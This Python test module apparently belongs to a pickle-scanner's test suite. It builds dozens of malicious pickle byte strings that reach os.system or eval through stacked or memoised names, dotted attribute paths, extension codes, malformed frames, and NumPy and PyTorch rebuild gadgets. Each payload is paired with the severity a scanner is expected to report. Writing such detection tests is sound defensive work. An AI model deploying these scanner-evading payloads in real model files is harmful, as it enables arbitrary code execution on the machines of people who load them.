"""Attacks by names that a pickle puts together, and functions that it computes: rows P2 and P3 of the catalogue."""

from __future__ import annotations

from tests.attacks.frame import Attacks, Trap, named
from tests.attacks.opcodes import (
    APPENDS,
    BINPERSID,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ_EX,
    NONE,
    POP,
    PROTO,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    built,
    call,
    created,
    dictionary,
    frame,
    number,
    stacked,
    text,
    tuple_of,
)
from tests.attacks.opcodes import named as name_of
from tests.attacks.pickles import (
    COMPUTED,
    CONFUSED,
    CRITICAL,
    DOCS,
    FICKLING,
    HIGH,
    LOOKED_UP,
    PICKLESCAN,
    by_opcodes,
    os_system,
)

ATTACKS = Attacks()
gadget = by_opcodes(ATTACKS)


# Names that are not written where they are used (P2)


@ATTACKS("P2-01", source=FICKLING, expects=CRITICAL)
def stack_global(trap: Trap) -> bytes:
    """STACK_GLOBAL takes both names from the stack."""
    return PROTO[4] + stacked("os", "system") + text(trap.command) + b"\x85R."


@ATTACKS("P2-02", source="fickling GHSA-mxhj-88fx-4pcv; picklescan malicious12.pkl", expects=CRITICAL)
def stack_global_by_memo(trap: Trap) -> bytes:
    """Both names come out of the memo, put there long before and in the wrong order."""
    stored = text("system") + MEMOIZE + POP + text("os") + MEMOIZE + POP + text("decoy") + MEMOIZE + POP
    return PROTO[4] + stored + b"h\x01h\x00" + STACK_GLOBAL + text(trap.command) + b"\x85R."


@ATTACKS("P2-03", source="fickling GHSA-mxhj-88fx-4pcv", expects=CRITICAL)
def result_popped(trap: Trap) -> bytes:
    """POP throws the result away, so that nothing in the loaded object tells of the call."""
    return PROTO[2] + os_system(trap) + POP + dictionary(weights=EMPTY_LIST) + STOP


@ATTACKS("P2-04", source=FICKLING, expects=CRITICAL)
def popped_behind_a_mark(trap: Trap) -> bytes:
    """POP_MARK throws many results away at once."""
    return PROTO[2] + MARK + os_system(trap) + NONE + b"1" + EMPTY_DICT + STOP


@ATTACKS("P2-05", source="picklescan type-confusion-exploit.pkl", expects=named("pickle_computed_global", "high", "@"))
def names_that_are_no_strings(trap: Trap) -> bytes:
    """A number where STACK_GLOBAL wants a module: scanners stopped there, the payload stands before."""
    return PROTO[4] + os_system(trap) + POP + number(42) + text("os") + STACK_GLOBAL + STOP


@ATTACKS("P2-06", source="picklescan keyerror-exploit.pkl", expects=CRITICAL)
def memo_that_is_not_there(trap: Trap) -> bytes:
    """A look-up in the memo that fails, behind the payload: an exception in the scanner, not in the victim."""
    return PROTO[4] + os_system(trap) + POP + b"h\x63" + text("os") + STACK_GLOBAL + STOP


@ATTACKS("P2-07", source="PEP 3154", expects=CRITICAL)
def dotted_name(trap: Trap) -> bytes:
    """Protocol 4 names may be dotted: from a class that only rebuilds data to everything that Python holds."""
    way = "OrderedDict.__init__.__globals__"
    return PROTO[4] + stacked("collections", way) + tuple_of(text(trap.command)) + REDUCE + STOP


@ATTACKS("P2-08", source="PEP 3154", expects=CRITICAL)
def dotted_through_a_module(trap: Trap) -> bytes:
    """`torch.storage` imports `os`, so `torch.storage` + `os.system` is `os.system`."""
    return PROTO[4] + stacked("torch.storage", "os.system") + tuple_of(text(trap.command)) + REDUCE + STOP


@ATTACKS("P2-09", source="PEP 3154", expects=CRITICAL)
def dotted_below_an_allowed_star(trap: Trap) -> bytes:
    """`numpy.dtypes` holds classes of data only, but every class leads to `object`, and that to all classes."""
    way = "Float32DType.__class__.__base__.__subclasses__"
    return PROTO[4] + stacked("numpy.dtypes", way) + EMPTY_TUPLE + REDUCE + STOP


@ATTACKS("P2-10", source="PEP 307", expects=named("pickle_extension", "high", "@"))
def extension_registry(trap: Trap) -> bytes:
    """EXT1 names a function by a number that only the victim's extension registry knows."""
    return PROTO[2] + b"\x82\x07" + tuple_of(text(trap.command)) + REDUCE + STOP


@ATTACKS("P2-11", source="PEP 307", expects=named("pickle_computed_global", "high", "@"))
def extension_registry_of_four_bytes(trap: Trap) -> bytes:
    """EXT4 does so with 32 bits, by way of the memo; what is called is unknown, which is not clean."""
    return PROTO[2] + b"\x84\xff\xff\xff\x7f" + b"q\x00" + POP + call(b"h\x00", text(trap.command)) + STOP


@ATTACKS("P2-12", source=DOCS, expects=named("pickle_persistent_id", "high", "@"))
def persistent_id(trap: Trap) -> bytes:
    """BINPERSID asks the loading program for an object by an id of the file's choice."""
    return PROTO[2] + text(f"file://{trap.secret}") + BINPERSID + STOP


@ATTACKS("P2-13", source=DOCS, expects=COMPUTED)
def persistent_id_called(trap: Trap) -> bytes:
    """PERSID of protocol 0, and the object is called."""
    return b"Pdriver\n" + tuple_of(b"S'%s'\n" % trap.command.encode()) + REDUCE + STOP


@ATTACKS("P2-14", source=FICKLING, expects=CRITICAL)
def getattr_of_an_import(trap: Trap) -> bytes:
    """`getattr(import_module("os"), "system")(command)`: every name of the payload is an argument."""
    imported = call(name_of("importlib", "import_module"), text("os"))
    found = call(name_of("builtins", "getattr"), imported, text("system"))
    return PROTO[5] + found + tuple_of(text(trap.command)) + REDUCE + STOP


@ATTACKS("P2-15", source=FICKLING, expects=COMPUTED)
def computed_name(trap: Trap) -> bytes:
    """What is called is the result of a harmless call: its name is nowhere in the file."""
    joined = call(name_of("builtins", "getattr"), call(name_of("datetime", "datetime"), number(1)), text("strftime"))
    return PROTO[4] + joined + tuple_of(text(trap.command)) + REDUCE + STOP


@ATTACKS("P2-16", source="fickling GHSA-5hvc-6wx8-mvv4", expects=CRITICAL)
def called_through_its_dunder(trap: Trap) -> bytes:
    """`eval.__call__` is `eval` by another name."""
    return PROTO[4] + stacked("builtins", "eval.__call__") + tuple_of(text(trap.python)) + REDUCE + STOP


@ATTACKS("P2-17", source="https://huggingface.co/docs/hub/security-pickle", expects=CRITICAL)
def obscured_by_dup(trap: Trap) -> bytes:
    """DUP and the memo move the function about before it is called."""
    moved = name_of("os", "system") + DUP + b"q\x05" + POP + POP + b"h\x05"
    return PROTO[2] + moved + tuple_of(text(trap.command)) + REDUCE + STOP


@ATTACKS("P2-18", source=PICKLESCAN, expects=CRITICAL)
def function_in_a_memo_that_is_overwritten(trap: Trap) -> bytes:
    """The memo entry that a scanner saw first is harmless; it is overwritten before it is used."""
    swapped = name_of("collections", "OrderedDict") + b"q\x00" + POP + name_of("os", "system") + b"q\x00" + POP
    return PROTO[2] + swapped + b"h\x00" + tuple_of(text(trap.command)) + REDUCE + STOP


@ATTACKS("P2-19", source="CPython Lib/_compat_pickle.py", expects=CRITICAL)
def old_name_of_a_builtin(trap: Trap) -> bytes:
    """`__builtin__.apply` and `__builtin__.execfile` of Python 2, in text opcodes."""
    return call(name_of("__builtin__", "apply"), name_of("os", "system"), tuple_of(text(trap.command))) + STOP


@ATTACKS("P2-20", source="fickling test_bypasses.py test_missing_pydoc", expects=CRITICAL)
def in_the_state_of_an_exception(trap: Trap) -> bytes:
    """The call's result becomes an attribute of an exception, which looks as if it were wanted."""
    called = (
        call(name_of("pydoc", "locate"), text("os.system")) + text(trap.command) + b"\x85" + REDUCE + b"q\x01" + POP
    )
    made = call(name_of("builtins", "Exception")) + EMPTY_DICT + text("rce") + b"h\x01" + SETITEM + BUILD
    return PROTO[4] + called + made + STOP


@ATTACKS("P2-21", source="https://docs.python.org/3/library/codecs.html#text-encodings", expects=CRITICAL)
def escaped_names(trap: Trap) -> bytes:
    """The names are written with escapes, which only an unpickler decodes."""
    names = b"V\\u006f\\u0073\n" + b"S'\\x73ystem'\n" + STACK_GLOBAL
    return PROTO[4] + names + tuple_of(text(trap.command)) + REDUCE + STOP


# Frames that lie (P3)


@ATTACKS("P3-01", source="fickling test_frame_boundary_*", expects=named("pickle_frame", "high", "@"))
def opcode_across_a_frame(trap: Trap) -> bytes:
    """A frame ends in the middle of an opcode: C and Python unpicklers go on differently."""
    return PROTO[4] + frame(text("decoy") + POP, length=4) + NONE + STOP


@ATTACKS("P3-02", source="fickling test_frame_boundary_*", expects=CRITICAL)
def payload_behind_the_frame(trap: Trap) -> bytes:
    """The frame announces an empty content; the payload stands behind it."""
    return PROTO[4] + frame(b"", length=0) + os_system(trap) + STOP


@ATTACKS("P3-03", source="PEP 3154", expects=named("pickle_frame", "high", "@"))
def frame_beyond_the_end(trap: Trap) -> bytes:
    """A frame that announces more than the file holds, behind the payload."""
    return PROTO[4] + os_system(trap) + frame(NONE + STOP, length=1 << 40)


@ATTACKS("P3-04", source="modelaudit nt_alias_attack.pkl", expects=CRITICAL)
def frame_of_everything(trap: Trap) -> bytes:
    """A frame of 2^63 bytes around the payload: the unpickler in C refuses it, the one in Python runs it."""
    return PROTO[4] + frame(os_system(trap) + STOP, length=1 << 63)


@ATTACKS("P3-05", source="PEP 3154", expects=named("pickle_frame", "high", "@"))
def frame_in_a_frame(trap: Trap) -> bytes:
    """A second frame begins before the first one ends."""
    return (
        PROTO[4]
        + frame(NONE + POP + frame(NONE, length=3), length=40)
        + bytes(0)
        + POP * 0
        + b"0"
        + NONE * 20
        + b"0" * 19
        + STOP
    )


# Functions that the pickle computes, and hands to what calls them

CTOR = stacked("numpy.random._pickle", "__generator_ctor")
"""`__generator_ctor(name, ctor)` returns `Generator(ctor(name))`."""

gadget(
    "P2-30",
    "a_rebuilder_that_calls_its_argument",
    "NumPy makes a generator of what a function returns that the pickle names.",
    lambda trap: call(CTOR, text(trap.command), stacked("os", "system")),
    CRITICAL,
)
gadget(
    "P2-31",
    "a_bound_method_for_it",
    "Opens no file by itself: a path's method is looked up and given to somebody who calls it.",
    lambda trap: call(
        CTOR,
        text("w"),
        call(
            stacked("builtins", "getattr"),
            call(stacked("pathlib", "PosixPath"), text(str(trap.marker))),
            text("write_text"),
        ),
    ),
    COMPUTED,
)
gadget(
    "P2-32",
    "a_function_out_of_a_dictionary",
    "The built-ins of a module are a dictionary: a key gives the function, without getattr.",
    lambda trap: call(
        CTOR,
        text(trap.python),
        call(stacked("_operator", "getitem"), stacked("torch.nn.functional", "__builtins__"), text("eval")),
    ),
    LOOKED_UP,
)
gadget(
    "P2-33",
    "a_function_out_of_a_list",
    "What a key takes out of a list that the pickle made.",
    lambda trap: call(
        CTOR,
        text(trap.python),
        call(
            stacked("_operator", "getitem"), EMPTY_LIST + MARK + stacked("some.package", "helper") + APPENDS, number(0)
        ),
    ),
    LOOKED_UP,
)
gadget(
    "P2-34",
    "a_default_that_is_called",
    "A dictionary calls its factory when a key is missing, and something asks for one.",
    lambda trap: call(
        stacked("_operator", "getitem"),
        call(stacked("collections", "defaultdict"), stacked("some.package", "helper")),
        text("missing"),
    ),
    HIGH,
)
gadget(
    "P2-35",
    "a_universal_function_by_its_module",
    "NumPy's own rebuilder imports any module and looks up any name.",
    lambda trap: call(
        call(stacked("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")), text(trap.command)
    ),
    CRITICAL,
)
gadget(
    "P2-36",
    "a_universal_function_of_computed_words",
    "The same, with a module's name out of a list.",
    lambda trap: call(
        stacked("numpy._core", "_ufunc_reconstruct"),
        call(stacked("_operator", "getitem"), EMPTY_LIST + MARK + text("os") + APPENDS, number(0)),
        text("system"),
    ),
    LOOKED_UP,
)
gadget(
    "P2-37",
    "arguments_that_are_computed",
    "The arguments themselves are the result of a call.",
    lambda trap: (
        stacked("numpy._core", "_ufunc_reconstruct")
        + call(stacked("builtins", "tuple"), EMPTY_LIST + MARK + text("os") + text("system") + APPENDS)
        + b"R"
    ),
    CONFUSED,
)
gadget(
    "P2-38",
    "a_tensor_of_a_type_by_any_function",
    "PyTorch rebuilds a tensor's subclass by the function that the pickle names.",
    lambda trap: call(
        stacked("torch._tensor", "_rebuild_from_type_v2"),
        stacked("os", "system"),
        stacked("torch", "Tensor"),
        tuple_of(text(trap.command)),
        NONE,
    ),
    CRITICAL,
)
gadget(
    "P2-39",
    "a_schedule_calls_a_function",
    "A scheduler calls the function that it is given, once, when it is made.",
    lambda trap: call(
        stacked("torch.optim.lr_scheduler", "LambdaLR"),
        created(stacked("torch.optim.sgd", "SGD")),
        stacked("os", "system"),
    ),
    CRITICAL,
)
gadget(
    "P2-40",
    "a_lazy_loop_that_a_set_runs",
    "`map` by NEWOBJ calls nothing, `set` of it does.",
    lambda trap: call(
        stacked("builtins", "set"),
        created(stacked("builtins", "map"), stacked("os", "system"), EMPTY_LIST + MARK + text(trap.command) + APPENDS),
    ),
    CRITICAL,
)
gadget(
    "P2-41",
    "sorted_by_a_program",
    "A key function as a keyword of an object that is made.",
    lambda trap: (
        stacked("builtins", "sorted") + tuple_of(EMPTY_LIST) + dictionary(key=stacked("os", "system")) + NEWOBJ_EX
    ),
    CRITICAL,
)
gadget(
    "P2-42",
    "the_root_logger_is_changed",
    "A logger is the program's own: what is set on it stays after loading.",
    lambda trap: built(call(stacked("logging", "getLogger")), dictionary(disabled=b"\x88")),
    CONFUSED,
)
gadget(
    "P2-43",
    "a_method_of_a_path",
    "Dotted names of classes that are allowed.",
    lambda trap: call(
        stacked("pathlib", "PosixPath.touch"), call(stacked("pathlib", "PosixPath"), text(str(trap.marker)))
    ),
    HIGH,
)
gadget(
    "P2-44",
    "a_storage_in_a_file",
    "Creates and maps a file, by a method of an allowed class.",
    lambda trap: call(stacked("torch", "UntypedStorage.from_file"), text(str(trap.marker)), b"\x88", number(16)),
    HIGH,
)
